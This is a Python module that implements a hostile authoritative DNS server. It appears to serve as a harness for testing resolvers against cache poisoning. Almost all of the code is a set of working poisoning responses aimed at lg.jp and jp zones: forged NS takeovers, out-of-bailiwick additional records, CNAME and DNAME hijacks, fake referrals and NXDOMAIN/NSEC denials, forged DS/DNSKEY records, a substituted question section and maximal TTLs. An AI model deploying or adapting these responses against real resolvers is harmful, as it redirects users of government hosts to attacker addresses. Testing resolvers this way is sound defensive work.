"""What an attacker says whose zone is asked: a true answer with poison in every place that a message has.

`Liar.respond` answers questions below the attacker's own zone; the first label says how to lie: `KIND-NUMBER`. To questions about
anybody else's names it says, with AA, that they lead to the attacker.
"""
import dns.flags
import dns.message
import dns.name
import dns.rdatatype as t
import dns.rrset

TTL = 86400


class Liar:
    """`own_zone`: the attacker's; `server`: its name server's Pair; `lure`: the address that must never be seen for a victim; `cut`: the
    forwarded zone that the attacker's is in. What is forwarded to is believed about that zone itself."""

    def __init__(self, own_zone, server, lure, victims, elsewhere=None, cut=None):
        self.zone, self.server, self.lure, self.victims = own_zone, server, lure, victims
        self.ns, self.cut = f"ns1.{own_zone}", cut
        self._elsewhere = elsewhere  # who answers for other names; None: the attacker, with a lie

    def names(self, number):
        """A name to ask for each kind of lie; all different for each number."""
        for kind in LIES:
            tail = f"{kind}-{number}.{self.zone}"
            yield kind, self.victims["host"].replace(".lg.jp.", "") + "." + tail if kind == "dname" else tail

    def respond(self, query, tcp):
        question = query.question[0]
        name = question.name.to_text().lower()
        if not (name == self.zone or name.endswith("." + self.zone)):
            return self._elsewhere(query, tcp) if self._elsewhere else self.claim(query)
        reply = dns.message.make_response(query)
        reply.flags |= dns.flags.AA
        labels = name[:-len(self.zone)].rstrip(".").split(".")
        kind = labels[-1].split("-")[0]
        if name == self.ns or kind not in LIES:
            self._honest(reply, name, question.rdtype)
        else:
            LIES[kind](self, reply, name, question.rdtype)
        return reply

    def claim(self, query):
        """An answer with authority for a name of others."""
        reply = dns.message.make_response(query)
        reply.flags |= dns.flags.AA
        name, rtype = query.question[0].name.to_text(), query.question[0].rdtype
        if rtype in (t.A, t.AAAA):
            self.put(reply.answer, name, rtype, self.lure.four if rtype == t.A else self.lure.six)
        elif rtype == t.NS:
            self.put(reply.answer, name, t.NS, self.ns)
        else:
            self.put(reply.answer, name, t.TXT, '"lie"')
        return reply

    @staticmethod
    def put(section, owner, rtype, *texts, ttl=TTL):
        section.append(dns.rrset.from_text(owner, ttl, "IN", t.to_text(rtype), *texts))

    def _honest(self, reply, name, rtype):
        if rtype == t.NS and name == self.zone:
            self.put(reply.answer, name, t.NS, self.ns)
        elif rtype in (t.A, t.AAAA):
            at_ns = name == self.ns
            pair = self.server if at_ns else self.lure
            self.put(reply.answer, name, rtype, pair.four if rtype == t.A else pair.six)
        else:
            self.put(reply.authority, self.zone, t.SOA, f"{self.ns} h.{self.zone} 1 7200 900 1209600 60")

    def glue(self, section, *owners):
        for owner in owners:
            self.put(section, owner, t.A, self.server.four)
            self.put(section, owner, t.AAAA, self.server.six)

    def take_over(self, section, *zones):
        for zone in zones:
            self.put(section, zone, t.NS, self.ns)


def authority(liar, reply, name, rtype):
    liar._honest(reply, name, rtype)
    liar.take_over(reply.authority, *liar.victims["zones"])
    liar.glue(reply.additional, liar.ns)


def additional(liar, reply, name, rtype):
    liar._honest(reply, name, rtype)
    for owner in (*liar.victims["hosts"], *liar.victims["servers"]):
        liar.put(reply.additional, owner, t.A, liar.lure.four)
        liar.put(reply.additional, owner, t.AAAA, liar.lure.six)


def answer(liar, reply, name, rtype):
    liar._honest(reply, name, rtype)
    for owner in liar.victims["hosts"]:
        liar.put(reply.answer, owner, t.A, liar.lure.four)


def refer(*zones):
    """A referral upward or sideways."""
    def lie(liar, reply, name, rtype):
        reply.flags &= ~dns.flags.AA
        liar.take_over(reply.authority, *(zones or liar.victims["zones"]))
        liar.glue(reply.additional, liar.ns, *liar.victims["servers"])
    return lie


def refer_victim_server(liar, reply, name, rtype):
    """A cut of its own, on a victim's server name, with an address for it."""
    if name.startswith("x."):
        return liar._honest(reply, name, rtype)
    reply.flags &= ~dns.flags.AA
    for server in (*liar.victims["servers"], *liar.victims["hosts"])[:8]:
        liar.put(reply.authority, name, t.NS, server)
    liar.glue(reply.additional, *liar.victims["servers"], *liar.victims["hosts"])


def alias(liar, reply, name, rtype):
    victim = liar.victims["host"]
    liar.put(reply.answer, name, t.CNAME, victim)
    liar.put(reply.answer, victim, t.A, liar.lure.four)
    liar.put(reply.answer, victim, t.AAAA, liar.lure.six)
    liar.take_over(reply.authority, *liar.victims["zones"])
    liar.glue(reply.additional, liar.ns)


def tree_alias(liar, reply, name, rtype):
    """A DNAME from its own zone onto lg.jp, with the victim's address behind it."""
    if not name.startswith("dname-"):
        owner = "dname-" + name.split(".dname-")[1]
        victim = name.split(".dname-")[0] + ".lg.jp."
        liar.put(reply.answer, owner, t.DNAME, "lg.jp.")
        liar.put(reply.answer, name, t.CNAME, victim)
        liar.put(reply.answer, victim, t.A, liar.lure.four)


def tree_alias_above(liar, reply, name, rtype):
    """DNAME records at zones above its own."""
    for zone in liar.victims["zones"]:
        if zone not in (".", liar.cut):
            liar.put(reply.answer, zone, t.DNAME, liar.zone)
    liar._honest(reply, name, rtype)


def deny(soa_owner):
    def lie(liar, reply, name, rtype):
        reply.set_rcode(3)
        liar.put(reply.authority, soa_owner, t.SOA, f"{liar.ns} h.{liar.zone} 1 7200 900 1209600 86400")
        liar.put(reply.authority, soa_owner, t.NSEC, f"{soa_owner} NS SOA RRSIG NSEC DNSKEY")
    return lie


def no_data_above(liar, reply, name, rtype):
    liar.put(reply.authority, "jp.", t.SOA, f"{liar.ns} h.{liar.zone} 1 7200 900 1209600 86400")
    liar.take_over(reply.authority, "jp.", "lg.jp.")


def chain_above(liar, reply, name, rtype):
    """DS and DNSKEY for zones of others."""
    liar._honest(reply, name, rtype)
    for zone in liar.victims["zones"]:
        liar.put(reply.authority, zone, t.DS, "4711 13 2 " + "ab" * 32)
        liar.put(reply.additional, zone, t.DNSKEY, "257 3 13 " + "A" * 86 + "==")


def other_question(liar, reply, name, rtype):
    reply.question = [dns.rrset.from_text(liar.victims["host"], 0, "IN", "A")]
    reply.question[0].clear()
    liar.put(reply.answer, liar.victims["host"], t.A, liar.lure.four)


def other_owner(liar, reply, name, rtype):
    liar.put(reply.answer, liar.victims["host"], t.A, liar.lure.four)


def everlasting(liar, reply, name, rtype):
    liar.put(reply.answer, name, t.A, liar.lure.four, ttl=2147483647)
    liar.put(reply.authority, "lg.jp.", t.NS, liar.ns, ttl=2147483647)


LIES = {"authority": authority, "additional": additional, "answer": answer, "upward": refer("."), "sideways": refer(), "jp": refer("jp."),
        "lgjp": refer("lg.jp.", "go.jp."), "server": refer_victim_server, "cname": alias, "dname": tree_alias, "dnameup": tree_alias_above,
        "denyroot": deny("."), "denyjp": deny("jp."), "denylg": deny("lg.jp."), "nodata": no_data_above, "ds": chain_above,
        "question": other_question, "owner": other_owner, "ttl": everlasting}
